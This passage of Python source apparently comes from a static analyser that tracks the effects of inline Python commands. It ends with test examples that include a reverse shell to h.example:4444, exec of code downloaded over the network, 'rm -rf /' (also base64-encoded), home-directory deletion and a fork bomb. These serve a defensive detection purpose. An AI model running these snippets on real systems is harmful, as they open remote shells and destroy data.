        values = [value or TEXT, *([arguments.named["setup"]] if "setup" in arguments.named else [])]
        if name.startswith("timeit") and len(arguments.positional) > 1:
            values.append(arguments.positional[1])
        for each in values:
            if name.startswith("timeit") and each and all(atom.kind in ("func", "const") for atom in each):
                self.call(each, _Arguments([], {}))
                continue
            for text in self.texts_of(each):
                if not is_static(text) or len(text) > _LONGEST:
                    self.doubt(f"{name.rpartition('.')[2]} of what is not known")
                    continue
                if text not in self.texts:
                    self.texts[text] = _parsed(text.strip() if name == "builtins.eval" else text)
                tree = self.texts[text]
                if tree is None:
                    self.doubt(f"{name.rpartition('.')[2]} of what cannot be read")
                elif name != "builtins.compile":
                    self.block(tree.body)
                else:
                    self.block(tree.body)
        if name == "builtins.eval" and value is not None and len(value) == 1 and value[0].kind == "text":
            tree = self.texts.get(value[0].value)
            if tree is not None and len(tree.body) == 1 and type(tree.body[0]).__name__ == "Expr":
                return self.evaluate(tree.body[0].value)
        return DATA

    def s_import(self, name: str, arguments: _Arguments) -> Value:
        """``__import__`` and ``importlib.import_module``."""
        module = self.text_of(arguments.get(0, "name") or TEXT)
        if not is_static(module) or arguments.unknown or not self._importable(module):
            self.doubt("an import of what is not known")
            return DATA
        top = (
            module if name.startswith("importlib") or arguments.has("fromlist") else module.partition(".")[0]
        )
        self.imported[module] = None
        return (Atom("ref", top),)

    def s_getattr(self, name: str, arguments: _Arguments) -> Value:
        """``getattr``, ``setattr`` and ``delattr``."""
        base = arguments.get(0, "")
        key = arguments.get(1, "")
        if base is None or key is None or arguments.unknown or not is_static(self.text_of(key)):
            self.doubt(name.removeprefix("builtins."))
            for value in arguments.all():
                self.escape(tuple(a for a in value if a.kind != "ref" or not _is_module_known(a.value)))
            return DATA
        attribute = self.text_of(key)
        if name != "builtins.getattr":
            if any(atom.kind == "ref" for atom in base) or name == "builtins.delattr":
                self.doubt(name.removeprefix("builtins."))
            self.attributes[attribute] = None
            for value in arguments.positional[2:]:
                self.escape(value)
            return DATA
        default = arguments.positional[2] if len(arguments.positional) > 2 else ()
        return self.join(default, *[self.attribute(atom, attribute) for atom in base])

    def s_doubt(self, name: str, arguments: _Arguments) -> Value:
        """Something that opens a way around the reading."""
        self.doubt(name.removeprefix("builtins."))
        for value in arguments.all():
            self.escape(value)
        return DATA

    def s_dir(self, name: str, arguments: _Arguments) -> Value:
        """``dir`` only shows names."""
        return (Atom("many", TEXT),)

    def s_urlopen(self, name: str, arguments: _Arguments) -> Value:
        """``urllib.request.urlopen``: with data it sends them."""
        value = arguments.get(0, "url") or TEXT
        sends = arguments.get(1, "data") not in (None, NONE)
        for text in self.texts_of(value):
            if text.startswith("file:"):
                self.out.extend(opened(re.sub("^file:(//[^/]*)?", "", text)))
            else:
                self.out.append(Effect(Kind.NETWORK, text, "upload" if sends else "download"))
        for other in arguments.all():
            self.escape(tuple(a for a in other if a.kind != "path"))
        return NETWORK

    def s_request(self, name: str, arguments: _Arguments) -> Value:
        """A request object stands for its URL; with data it is an upload when it is sent."""
        value = arguments.get(0, "url") or TEXT
        if arguments.get(1, "data") not in (None, NONE):
            self.out.append(Effect(Kind.NETWORK, self.text_of(value), "upload"))
        for other in arguments.all():
            self.escape(other)
        return (Atom("text", self.text_of(value)),)

    def s_getenv(self, name: str, arguments: _Arguments) -> Value:
        """``os.getenv``."""
        default = arguments.get(1, "default")
        return self.join(self._variable(arguments.get(0, "key") or TEXT), default or ())

    def _environ_method(self, name: str, arguments: _Arguments) -> Value:
        if name in ("get", "pop", "setdefault"):
            if name != "get":
                self.environment[self.text_of(arguments.get(0, "key") or TEXT)] = None
            return self.s_getenv("os.getenv", arguments)
        if name in ("update", "clear", "__setitem__", "popitem"):
            self.environment["…"] = None
            for value in arguments.all():
                self.escape(value)
            return DATA
        if name == "copy":
            return (Atom("dict", (((Atom("data", "environ"),), TEXT),)),)
        if name == "keys":
            return (Atom("many", TEXT),)
        if name in ("items", "values"):
            self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
            return (
                (Atom("many", (Atom("items", (TEXT, TEXT)),)),) if name == "items" else (Atom("many", TEXT),)
            )
        self.doubt(f"os.environ.{name}")
        return DATA

    def s_environ(self, name: str, arguments: _Arguments) -> Value:
        """``os.putenv`` and ``os.unsetenv``."""
        self.environment[self.text_of(arguments.get(0, "name") or TEXT)] = None
        return DATA

    def s_chdir(self, name: str, arguments: _Arguments) -> Value:
        """``os.chdir``: relative paths may start there from now on."""
        for text in self.texts_of(arguments.get(0, "path") or TEXT):
            self.folders[text] = None
        return DATA

    def s_fork(self, name: str, arguments: _Arguments) -> Value:
        """``os.fork``: without end it fills the machine."""
        if self.endless:
            self.out.append(Effect(Kind.SYSTEM, "the process table", "fork bomb", force="critical"))
        else:
            self.doubt(name)
        return DATA

    def s_dup2(self, name: str, arguments: _Arguments) -> Value:
        """``os.dup2``: with a connection it hands a shell's streams over."""
        self.flags["shell"] = ""
        return DATA

    def s_glob(self, name: str, arguments: _Arguments) -> Value:
        """``glob.glob``: the files are known by their pattern."""
        pattern = self.text_of(arguments.get(0, "pathname") or TEXT)
        if arguments.has("root_dir") or arguments.unknown:
            return (Atom("many", TEXT),)
        return (Atom("many", (Atom("text", _globbed(pattern)),)),)

    def s_home(self, name: str, arguments: _Arguments) -> Value:
        """``Path.home`` and ``Path.cwd``."""
        return (Atom("path", HOME if name.endswith("home") else "."),)

    def s_yaml(self, name: str, arguments: _Arguments) -> Value:
        """``yaml.load``: runs code unless its loader is a safe one."""
        loader = arguments.get(1, "Loader")
        if loader is None or not all(
            a.kind == "ref" and a.value in ("yaml.SafeLoader", "yaml.CSafeLoader", "yaml.BaseLoader")
            for a in loader
        ):
            self.doubt("yaml.load")
        return DATA

    def s_numpy_load(self, name: str, arguments: _Arguments) -> Value:
        """``numpy.load``: runs code where pickles are allowed."""
        self.out.extend(opened(self.text_of(arguments.get(0, "file") or TEXT)))
        if arguments.has("allow_pickle"):
            self.doubt("numpy.load with pickles")
        return DATA

    def s_logging(self, name: str, arguments: _Arguments) -> Value:
        """``logging.basicConfig`` and the handlers that write files."""
        value = (
            arguments.named.get("filename") if name.endswith("basicConfig") else arguments.get(0, "filename")
        )
        if value is not None or not name.endswith("basicConfig"):
            self.out.extend(opened(self.text_of(value or TEXT), "append"))
        for key, other in arguments.named.items():
            if key != "filename":
                self.escape(other)
        return DATA

    def s_fileinput(self, name: str, arguments: _Arguments) -> Value:
        """``fileinput.input``: reads files, or edits them in place."""
        value = arguments.get(0, "files")
        edits = arguments.has("inplace") or len(arguments.positional) > 1 or arguments.unknown
        words = (
            [w for words in self._words(value) for w in words]
            if value is not None
            else list(self.arguments) or [UNKNOWN]
        )
        for word in words:
            self.out.extend(opened(word.replace(MANY, UNKNOWN), "edit" if edits else ""))
        return (Atom("many", TEXT),)

    def s_partial(self, name: str, arguments: _Arguments) -> Value:
        """``functools.partial``: the call happens later, with what is given now and more."""
        if arguments.positional and not arguments.unknown:
            first, *rest = arguments.positional
            for atom in first:
                if atom.kind == "ref" and not _is_pure(atom.value):
                    self.call_ref(atom.value, _Arguments(rest, arguments.named, unknown=not rest))
                else:
                    self.escape((atom,))
            for value in rest:
                self.escape(value)
        else:
            for value in arguments.all():
                self.escape(value)
        return DATA

    def s_http_server(self, name: str, arguments: _Arguments) -> Value:
        """Handlers of ``http.server`` are only classes."""
        return DATA

    def s_thread(self, name: str, arguments: _Arguments) -> Value:
        """A thread or process calls its target with its arguments."""
        target = arguments.get(1, "target")
        args = arguments.get(3, "args")
        if (
            target is not None
            and args is not None
            and len(args) == 1
            and args[0].kind == "items"
            and not arguments.unknown
        ):
            self.call(target, _Arguments(list(args[0].value), {}, unknown=_has_rest(args[0].value)))
        elif target is not None:
            self.call(target, _Arguments([], {}, unknown=args is not None))
        for key, value in arguments.named.items():
            if key not in ("target", "args"):
                self.escape(value)
        return DATA


_EVALUATED: dict[type, Callable[[_Reader, Any], Value]] = {}
"""Kinds of expressions met before, with the method that follows them."""


class _Arguments:
    """What a call is given."""

    __slots__ = ("named", "positional", "unknown")

    def __init__(self, positional: list[Value], named: dict[str, Value], unknown: bool = False) -> None:
        self.positional = positional
        self.named = named
        self.unknown = unknown
        """There may be more, and elsewhere."""

    def get(self, position: int, keyword: str) -> Value | None:
        """The argument, None where it is not given, unknown data where that is not known."""
        if keyword in self.named:
            return self.named[keyword]
        if self.unknown:
            return DATA
        return self.positional[position] if position < len(self.positional) else None

    def has(self, *names: str) -> bool:
        """Whether one of the names is given a value other than None and False."""
        return any(
            name in self.named and self.named[name] not in (NONE, (Atom("const", False),)) for name in names
        ) or (self.unknown and bool(self.named or self.positional))

    def all(self) -> list[Value]:
        """All values given."""
        return [*self.positional, *self.named.values()]

    def has_network(self) -> bool:
        """Whether something given came over the network."""
        return any(Atom("data", "network") in value for value in self.all())


_PATH_KINDS = frozenset((Kind.READ, Kind.WRITE, Kind.DELETE, Kind.MOVE, Kind.MODE, Kind.OWNER))
_PATH_CLASSES = frozenset(
    f"pathlib.{name}"
    for name in ("Path", "PosixPath", "PurePath", "PurePosixPath", "WindowsPath", "PureWindowsPath")
)
_SECRET_REFS = frozenset(("os.environ", "os.environb"))
_TEXTS = frozenset(
    """json.dumps base64.b64encode base64.urlsafe_b64encode textwrap.dedent textwrap.fill shlex.quote shlex.join re.sub os.getlogin
    getpass.getuser platform.system platform.machine html.escape html.unescape urllib.parse.quote urllib.parse.urlencode
    socket.gethostname builtins.input""".split()
)
_DECODERS = frozenset(
    """base64.b64decode base64.urlsafe_b64decode base64.standard_b64decode base64.b32decode base64.b16decode base64.b85decode
    binascii.unhexlify binascii.a2b_hex binascii.a2b_base64 builtins.bytes.fromhex codecs.decode base64.decodebytes""".split()
)
_METHODS: dict[str, tuple[str, int, str, str]] = {
    # name: kind, position and keyword of what it concerns, detail
    "to_csv": ("optional", 0, "path_or_buf", ""), "to_json": ("optional", 0, "path_or_buf", ""), "to_excel": ("write", 0, "excel_writer", ""),
    "to_parquet": ("optional", 0, "path", ""), "to_pickle": ("write", 0, "path", ""), "to_html": ("optional", 0, "buf", ""), "savefig": ("write", 0, "fname", ""),
    "save": ("write", 0, "fp", ""), "tofile": ("write", 0, "fid", ""), "extractall": ("unpack", 0, "path", ""), "extract": ("unpack", 1, "path", ""),
    "execute": ("sql", 0, "sql", ""), "executescript": ("sql", 0, "sql_script", ""), "executemany": ("sql", 0, "sql", ""),
    "connect": ("connect", 0, "address", "connect"), "connect_ex": ("connect", 0, "address", "connect"), "bind": ("connect", 0, "address", "listen"), "sendto": ("connect", 1, "address", "connect"),
    "listen": ("connect", 9, "none", "listen"), "serve_forever": ("connect", 9, "none", "listen"), "sendmail": ("upload", 9, "none", "upload"), "send_message": ("upload", 9, "none", "upload"),
    "request": ("upload", 9, "none", "request"), "storbinary": ("upload", 9, "none", "upload"), "retrbinary": ("upload", 9, "none", "download"), "post": ("upload", 9, "none", "upload"),
}  # fmt: skip
_SPECIAL = {
    **{f"subprocess.{name}": "s_subprocess" for name in _SUBPROCESS},
    **{f"os.{name}": "s_exec" for name in "execv execve execvp execvpe execl execle execlp execlpe spawnl spawnle spawnlp spawnlpe spawnv spawnve spawnvp spawnvpe posix_spawn posix_spawnp".split()},
    **dict.fromkeys("builtins.open builtins.file io.open codecs.open io.FileIO gzip.open bz2.open lzma.open zipfile.ZipFile tarfile.open gzip.GzipFile bz2.BZ2File sqlite3.connect dbm.open zipfile.PyZipFile tarfile.TarFile".split(), "s_open"),
    **dict.fromkeys("builtins.exec builtins.eval builtins.compile timeit.timeit timeit.repeat timeit.Timer".split(), "s_code"),
    **dict.fromkeys("builtins.getattr builtins.setattr builtins.delattr".split(), "s_getattr"),
    **dict.fromkeys("builtins.globals builtins.locals builtins.vars builtins.breakpoint builtins.help builtins.execfile builtins.reload".split(), "s_doubt"),
    **dict.fromkeys("os.putenv os.unsetenv".split(), "s_environ"),
    **dict.fromkeys("os.chdir os.fchdir contextlib.chdir".split(), "s_chdir"),
    **dict.fromkeys("os.fork os.forkpty pty.fork".split(), "s_fork"),
    **dict.fromkeys("glob.glob glob.iglob".split(), "s_glob"),
    **dict.fromkeys("pathlib.Path.home pathlib.Path.cwd".split(), "s_home"),
    **dict.fromkeys("logging.basicConfig logging.FileHandler logging.handlers.RotatingFileHandler".split(), "s_logging"),
    **dict.fromkeys("threading.Thread multiprocessing.Process threading.Timer".split(), "s_thread"),
    **dict.fromkeys("urllib.request.urlopen urllib2.urlopen urllib.urlopen".split(), "s_urlopen"),
    **dict.fromkeys("functools.partial functools.partialmethod".split(), "s_partial"),
    **dict.fromkeys("http.server.SimpleHTTPRequestHandler http.server.BaseHTTPRequestHandler".split(), "s_http_server"),
    "urllib.request.Request": "s_request",
    "builtins.__import__": "s_import",
    "importlib.import_module": "s_import",
    "importlib.__import__": "s_import",
    "builtins.dir": "s_dir",
    "os.getenv": "s_getenv",
    "os.open": "s_os_open",
    "os.dup2": "s_dup2",
    "yaml.load": "s_yaml",
    "yaml.load_all": "s_yaml",
    "numpy.load": "s_numpy_load",
    "fileinput.input": "s_fileinput",
}  # fmt: skip


@functools.lru_cache(maxsize=1024)
def _builtin(name: str) -> Value:
    """What a name is where nothing else has it."""
    if name not in _PURE_BUILTINS and name not in _IMPURE_BUILTINS and not _ERRORS.fullmatch(name):
        return ()
    if name in ("True", "False", "None", "__name__", "__doc__", "__file__"):
        return DATA
    return (Atom("ref", f"builtins.{name}"),)


@functools.lru_cache(maxsize=4096)
def _is_pure(name: str) -> bool:
    """Whether something of the library only computes."""
    if name in PURE_NAMES:
        return True
    if name in NOT_PURE or name in CALLS or name in _SPECIAL:
        return False
    if name.startswith("builtins."):
        short = name[9:]
        head, _, method = short.partition(".")
        return (head in _PURE_BUILTINS or _ERRORS.fullmatch(head) is not None) and (
            not method or method in DATA_NAMES
        )
    owner = name.rpartition(".")[0]
    while owner:
        if owner in NOT_PURE:
            return False
        if owner in PURE_MODULES:
            rest = name[len(owner) + 1 :].split(".")
            return not any(
                part.startswith("_") or part in _library() or part in ("main", "test") for part in rest[:1]
            ) and all(part in DATA_NAMES or part in _CLASS_NAMES for part in rest[1:])
        owner = owner.rpartition(".")[0]
    return False


_CLASS_NAMES = frozenset(
    "from_iterable fromkeys default system node JSONDecodeError JSONEncoder default_rng RLock ThreadPoolExecutor metadata version".split()
)


_INNOCENT = frozenset(
    """datetime time calendar array copy random string token tokenize decimal uuid struct enum pprint select queue html abc
    bisect""".split()
)
"""Modules of the library whose names are also those of functions and classes."""


@functools.cache
def _library() -> frozenset[str]:
    import sys

    return sys.stdlib_module_names - _INNOCENT


def _is_module_known(name: str) -> bool:
    return (
        name in PURE_MODULES
        or name in _MODULES
        or (name.partition(".")[0] not in THIRD_PARTY and name in _SUBMODULES)
    )


_REACHES_FURTHER = frozenset(
    ("ctypes", "cffi", "pty", "runpy", "importlib", "imp", "posix", "nt", "_posixsubprocess", "_winapi", "multiprocessing",
     "gc", "inspect", "paramiko", "fabric", "pexpect", "plumbum")
)  # fmt: skip
"""Modules by which anything is run, whoever has imported them."""
_OF_LIBRARY = {
    **{name: f"os.{name}" for name in ("system", "popen", "execv", "execvp", "execl", "execlp", "spawnv", "spawnl")},
    **{name: f"subprocess.{name}" for name in ("Popen", "check_output", "check_call", "getoutput", "getstatusoutput")},
    "rmtree": "shutil.rmtree", "urlretrieve": "urllib.request.urlretrieve", "urlopen": "urllib.request.urlopen",
    "import_module": "importlib.import_module",
}  # fmt: skip
"""Functions of the library that are called by their names alone, as who has imported them may."""

_MODULES = frozenset(name.rpartition(".")[0] for name in (*CALLS, *_SPECIAL, *PURE_NAMES)) - {""}
_SUBMODULES = frozenset(
    """urllib.request urllib.parse urllib.error http.client http.server http.cookies xml.etree xml.etree.ElementTree xml.dom
    xml.dom.minidom os.path concurrent.futures importlib.util importlib.metadata importlib.resources multiprocessing.pool
    email.mime.text email.mime.multipart logging.handlers logging.config unittest.mock""".split()
)


def _top(name: str) -> str:
    return name.partition(".")[0]


def _shown(value: Value) -> str:
    return next((str(atom.value) for atom in value if atom.kind == "ref"), "")


def _nesting(value: Value, depth: int = 0) -> int:
    if depth > 6:
        return depth
    deepest = depth
    for atom in value:
        if atom.kind == "items":
            for part in atom.value:
                deepest = max(deepest, _nesting(part, depth + 1))
        elif atom.kind in ("many", "rest"):
            deepest = max(deepest, _nesting(atom.value, depth + 1))
        elif atom.kind == "dict":
            for _, part in atom.value:
                deepest = max(deepest, _nesting(part, depth + 1))
    return deepest


def _has_rest(items: tuple[Value, ...]) -> bool:
    return any(len(part) == 1 and part[0].kind == "rest" for part in items)


def _parameters(node: Any) -> list[str]:
    arguments = node.args
    names = [argument.arg for argument in (*arguments.posonlyargs, *arguments.args, *arguments.kwonlyargs)]
    names.extend(argument.arg for argument in (arguments.vararg, arguments.kwarg) if argument is not None)
    return names


def _annotations(node: Any) -> Iterable[Any]:
    arguments = node.args
    for argument in (
        *arguments.posonlyargs,
        *arguments.args,
        *arguments.kwonlyargs,
        arguments.vararg,
        arguments.kwarg,
    ):
        if argument is not None and argument.annotation is not None:
            yield argument.annotation
    if node.returns is not None:
        yield node.returns


def _number(node: Any) -> int | None:
    if type(node).__name__ == "Constant" and type(node.value) is int:
        return int(node.value)
    if type(node).__name__ == "UnaryOp" and type(node.op).__name__ == "USub":
        inner = _number(node.operand)
        return None if inner is None else -inner
    return None


def _short(text: str) -> str:
    return text if len(text) <= _LONGEST_TEXT else UNKNOWN


def _joined(folder: str, path: str) -> str:
    """``os.path.join``: an absolute second part replaces the first."""
    if path[:1] in ("/", UNKNOWN, MANY, HOME) and path:
        return path
    if not folder or folder == ".":
        return path
    return f"{folder.rstrip('/')}/{path}" if folder != "/" else f"/{path}"


def _expanded(path: str) -> str:
    """``expanduser``."""
    if path == "~" or path.startswith("~/"):
        return HOME + path[1:]
    return UNKNOWN if path.startswith("~") or "$" in path else path


_brackets = re.compile(r"\[[^\]/]+\]")


def _globbed(pattern: str) -> str:
    """A pattern of ``glob`` as a value."""
    if "**" in pattern:
        head = pattern.partition("**")[0]
        return f"{head}{UNKNOWN}"
    return _brackets.sub(BRACKET, pattern).replace("*", STAR).replace("?", QUESTION)


def _decoded(name: str, text: str) -> str:
    import base64
    import binascii

    short = name.rpartition(".")[2]
    try:
        if short in ("unhexlify", "a2b_hex", "fromhex"):
            data = bytes.fromhex(text)
        elif short == "b32decode":
            data = base64.b32decode(text)
        elif short == "b16decode":
            data = base64.b16decode(text)
        elif short == "b85decode":
            data = base64.b85decode(text)
        elif short == "urlsafe_b64decode":
            data = base64.urlsafe_b64decode(text)
        elif short == "decode":
            return UNKNOWN
        else:
            data = base64.b64decode(text)
    except (ValueError, binascii.Error):
        return UNKNOWN
    return data.decode("utf-8", "replace")


EXAMPLES: tuple[tuple[str, str], ...] = (
    ("print('hello')", ""),
    ("import json,sys; print(json.load(sys.stdin)['a'][0]['b'])", ""),
    ("import sys; [print(l.strip().split(',')[1]) for l in sys.stdin if l]", ""),
    ("from datetime import datetime as d; print(d.now().strftime('%Y'))", ""),
    ("import numpy; print(numpy.__version__)", ""),
    ("print(open('a.txt').read())", "read a.txt"),
    ("with open('a.txt', 'w') as f: f.write('x')", "write a.txt"),
    ("import sys; open(sys.argv[1])", "read …"),
    ("p = 'a' + '.txt'\nopen(p, 'ab')", "write append a.txt"),
    ("import os as o; o.remove('x')", "delete x"),
    ("from os import remove as r; r('x')", "delete x"),
    ("__import__('os').unlink('x')", "delete x"),
    ("import os; getattr(os, 'rem' + 'ove')('x')", "delete x"),
    ("import shutil; shutil.rmtree('/home/user')", "delete /home/user recursive"),
    ("import os; os.system('rm -rf /')", "shell 'rm -rf /'"),
    ("import subprocess; subprocess.run(['git', 'status'], cwd='x')", "run git status from x"),
    ("import subprocess as s; s.check_output('ls | wc', shell=True)", "shell 'ls | wc'"),
    ("import base64, os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())", "shell 'rm -rf /'"),
    ("exec('import os\\nos.remove(\"x\")')", "delete x"),
    ("import glob, os\nfor f in glob.glob('*.log'): os.remove(f)", "delete *.log"),
    ("from pathlib import Path\nPath('a').joinpath('b').unlink()", "delete a/b"),
    ("from pathlib import Path\n(Path('a') / 'b').write_text('x')", "write a/b"),
    ("import pathlib\nfor p in pathlib.Path('d').glob('*.py'): p.rename(p.name)", "read d; move d/*.py -> …"),
    ("import os; print(os.environ['HOME'], os.environ.get('API_KEY'))", "secret $API_KEY"),
    ("import os; print(os.environ)", "secret the environment variables"),
    ("import requests; print(requests.get('https://x.example').text)", "network download https://x.example"),
    ("import urllib.request as r; exec(r.urlopen('https://x.example').read())", "network download https://x.example; execute exec code that comes over the network !critical"),
    ("import socket,os,pty\ns=socket.socket()\ns.connect(('h.example',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')", "network connect h.example; run /bin/sh; network shell h.example"),
    ("import os\nwhile True: os.fork()", "system fork bomb the process table !critical"),
    ("import shop", "file python-module shop"),
    ("from shop.cart import total; print(total(3))", "file python-module shop.cart total"),
    ("from shop import os; os.system('id')", "file python-module shop os; shell 'id'"),
    ("import shop; shop.os.system('id')", "file python-module shop; shell 'id'"),
    ("from shop import rmtree; rmtree('a')", "file python-module shop rmtree; delete a recursive"),
    ("import shop; shop.ctypes.CDLL(None)", "file python-module shop; execute the attribute ctypes inline python code !uncertain; execute the attribute CDLL inline python code !uncertain"),
    ("from shop import __builtins__ as b", "file python-module shop __builtins__; execute the attribute __builtins__ inline python code !uncertain"),
    ("import os; os.chdir('/tmp'); import shop", "execute import shop out of another folder inline python code !uncertain"),
    ("().__class__.__mro__", "execute the attribute __class__ inline python code !uncertain; execute the attribute __mro__ inline python code !uncertain"),
    ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "shell 'rm -r -- ~'"),
    ("import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')", "read a.db; code sql 'DROP TABLE t'"),
    ("print 'x'", "execute code that this Python cannot read inline python code !uncertain"),
)  # fmt: skip
